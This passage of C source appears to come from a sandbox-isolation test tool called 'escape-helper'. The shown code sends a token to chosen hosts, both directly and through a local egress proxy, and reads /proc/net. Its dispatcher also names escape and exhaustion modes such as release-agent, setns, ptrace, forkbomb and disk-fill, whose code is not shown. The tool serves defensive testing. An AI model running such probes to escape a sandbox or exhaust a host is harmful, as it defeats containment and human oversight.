        struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)&ss;
        socklen_t len;
        if (inet_pton(AF_INET, host, &a4->sin_addr) == 1) {
                a4->sin_family = AF_INET;
                a4->sin_port = htons((uint16_t)port);
                len = sizeof(*a4);
        } else if (inet_pton(AF_INET6, host, &a6->sin6_addr) == 1) {
                a6->sin6_family = AF_INET6;
                a6->sin6_port = htons((uint16_t)port);
                len = sizeof(*a6);
        } else {
                return -EINVAL;
        }
        int fd = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (fd < 0)
                return -errno;
        int r = connect(fd, (struct sockaddr *)&ss, len) < 0 ? -errno : 0;
        if (r == -EINPROGRESS) {
                struct pollfd p = { fd, POLLOUT, 0 };
                int e = 0;
                socklen_t el = sizeof(e);
                r = poll(&p, 1, ms) == 1 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &e, &el) == 0 ? -e : -ETIMEDOUT;
        }
        if (r < 0) {
                close(fd);
                return r;
        }
        fcntl(fd, F_SETFL, 0);
        return fd;
}

static void send_text(int fd, const char *text)
{
        ssize_t w = send(fd, text, strlen(text), MSG_NOSIGNAL);
        (void)w;
}

/* Reads until end of file or ms of silence; keeps the first line in first. Returns the bytes read. */
static long read_all(int fd, char *first, size_t firstlen, int ms)
{
        char buf[16384];
        long total = 0;
        first[0] = '\0';
        for (;;) {
                struct pollfd p = { fd, POLLIN, 0 };
                if (poll(&p, 1, ms) <= 0)
                        break;
                ssize_t n = read(fd, buf, sizeof(buf));
                if (n <= 0)
                        break;
                if (total == 0) {
                        size_t k = 0;
                        while (k < (size_t)n && k < firstlen - 1 && buf[k] != '\r' && buf[k] != '\n')
                                k++;
                        memcpy(first, buf, k);
                        first[k] = '\0';
                }
                total += n;
        }
        return total;
}

/* Reads a proxy's answer head (up to the blank line), byte by byte so nothing after it is taken. */
static void read_head_line(int fd, char *status, size_t len)
{
        char head[4096];
        size_t n = 0;
        while (n < sizeof(head) - 1) {
                struct pollfd p = { fd, POLLIN, 0 };
                if (poll(&p, 1, 5000) <= 0 || read(fd, head + n, 1) != 1)
                        break;
                n++;
                head[n] = '\0';
                if (n >= 4 && memcmp(head + n - 4, "\r\n\r\n", 4) == 0)
                        break;
        }
        head[n] = '\0';
        size_t k = strcspn(head, "\r\n");
        if (k >= len)
                k = len - 1;
        memcpy(status, head, k);
        status[k] = '\0';
}

/* One try: KIND|HOST|PORT|TOKEN. d: connect to HOST:PORT directly and send
 * TOKEN; c: through the egress proxy (127.0.0.1:3128) with CONNECT, then send
 * TOKEN; g: through the proxy, GET http://HOST:PORT/TOKEN. */
static void net_try(char kind, const char *host, int port, const char *token)
{
        char auth[300], first[200], status[200] = "";
        snprintf(auth, sizeof(auth), strchr(host, ':') ? "[%s]:%d" : "%s:%d", host, port);
        int fd = net_connect(kind == 'd' ? host : "127.0.0.1", kind == 'd' ? port : 3128, 2000);
        if (fd < 0) {
                printf("net %c %s: connect: %s\n", kind, auth, strerror(-fd));
                return;
        }
        char req[1024];
        if (kind == 'd') {
                snprintf(req, sizeof(req), "%s\n", token);
                send_text(fd, req);
        } else if (kind == 'c') {
                snprintf(req, sizeof(req), "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", auth, auth);
                send_text(fd, req);
                read_head_line(fd, status, sizeof(status));
                if (strstr(status, " 200 ")) {
                        snprintf(req, sizeof(req), "%s\n", token);
                        send_text(fd, req);
                }
        } else {
                snprintf(req, sizeof(req), "GET http://%s/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", auth,
                         token, auth);
                send_text(fd, req);
        }
        long n = read_all(fd, first, sizeof(first), 3000);
        close(fd);
        printf("net %c %s: connected%s%s, %ld bytes back, first line \"%s\"\n", kind, auth, *status ? ", proxy said " : "",
               status, n, first);
}

static int mode_net(const char *specs)
{
        char *list = strdup(specs), *save = NULL;
        for (char *t = strtok_r(list, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
                char *f[4] = { 0 };
                int k = 0;
                for (char *q = t; k < 4; k++) {
                        f[k] = q;
                        q = strchr(q, '|');
                        if (!q)
                                break;
                        *q++ = '\0';
                }
                if (f[0][0] == 't') {
                        /* what the sandbox's /proc/net shows: the host's sockets must not be there */
                        static const char *const files[] = { "/proc/net/tcp", "/proc/net/tcp6" };
                        for (int i = 0; i < 2; i++) {
                                size_t len = 0;
                                char *text = read_small(files[i], &len);
                                printf("net t %s:\n%s\n", files[i], text ? text : "(unreadable)");
                                free(text);
                        }
                        continue;
                }
                if (k < 3 || !f[3]) {
                        printf("net: bad spec\n");
                        continue;
                }
                net_try(f[0][0], f[1], atoi(f[2]), f[3]);
        }
        free(list);
        return 0;
}

int main(int argc, char **argv)
{
        if (argc < 2) {
                fprintf(stderr, "usage: escape-helper MODE ARGS...\n");
                return 2;
        }
        setvbuf(stdout, NULL, _IOLBF, 0);
        const char *m = argv[1];
        if (strcmp(m, "victim") == 0 && argc == 3)
                return mode_victim(argv[2]);
        char cwd[512] = "?";
        if (!getcwd(cwd, sizeof(cwd)))
                snprintf(cwd, sizeof(cwd), "?");
        printf("helper-started mode=%s pid=%d uid=%d cwd=%s\n", m, (int)getpid(), (int)getuid(), cwd);
        if (strcmp(m, "leave-cgroup") == 0)
                return mode_leave_cgroup();
        if (strcmp(m, "counters") == 0)
                return mode_counters();
        if (strcmp(m, "thaw") == 0)
                return mode_thaw();
        if (strcmp(m, "registry") == 0 && argc == 4)
                return mode_registry(argv[2], argv[3]);
        if (strcmp(m, "vmm-socket") == 0 && argc == 4)
                return mode_vmm_socket(argv[2], argv[3]);
        if (strcmp(m, "host-proc") == 0 && argc == 5)
                return mode_host_proc(argv[2], argv[3], argv[4]);
        if (strcmp(m, "setns") == 0 && argc == 4)
                return mode_setns(atoi(argv[2]), argv[3]);
        if (strcmp(m, "release-agent") == 0 && argc == 4)
                return mode_release_agent(argv[2], argv[3]);
        if (strcmp(m, "forkbomb") == 0 && argc == 4)
                return mode_forkbomb(atoi(argv[2]), atoi(argv[3]));
        if (strcmp(m, "disk-fill") == 0 && argc == 4)
                return mode_disk_fill(argv[2], atoll(argv[3]));
        if (strcmp(m, "plant-tmp") == 0 && argc == 3)
                return mode_plant_tmp(argv[2]);
        if (strcmp(m, "race") == 0 && argc == 5)
                return mode_race(atoi(argv[2]), argv[3], atoi(argv[4]));
        if (strcmp(m, "net") == 0 && argc == 3)
                return mode_net(argv[2]);
        if (strcmp(m, "ptrace") == 0 && argc == 5)
                return mode_ptrace(atoi(argv[2]), strtoull(argv[3], NULL, 16), atoi(argv[4]));
        fprintf(stderr, "escape-helper: unknown mode or arguments\n");
        return 2;
}
